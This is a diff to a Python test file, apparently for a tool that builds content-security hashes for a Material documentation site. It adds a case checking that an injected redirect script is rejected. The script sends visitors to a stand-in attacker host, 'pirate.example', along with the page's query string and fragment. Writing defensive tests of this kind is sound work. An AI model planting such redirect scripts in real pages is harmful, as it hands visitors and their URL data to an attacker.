@@ -62,6 +62,11 @@ def test_chaque_script_de_material_est_connu_par_son_gabarit() -> None:
         SCOPE + ";fetch('/x')",
         " " + SCOPE,  # one byte more
         'window.location="https://pirate.example"',
+        # Material's redirect template with a target of the attacker's choosing.
+        (
+            'window.location.replace(["https://pirate.example/",window.location.search,'
+            'window.location.hash].join(""))'
+        ),
     ],
 )
 def test_script_injecte_ni_hache_ni_accepte_par_l_analyse(body: str) -> None:
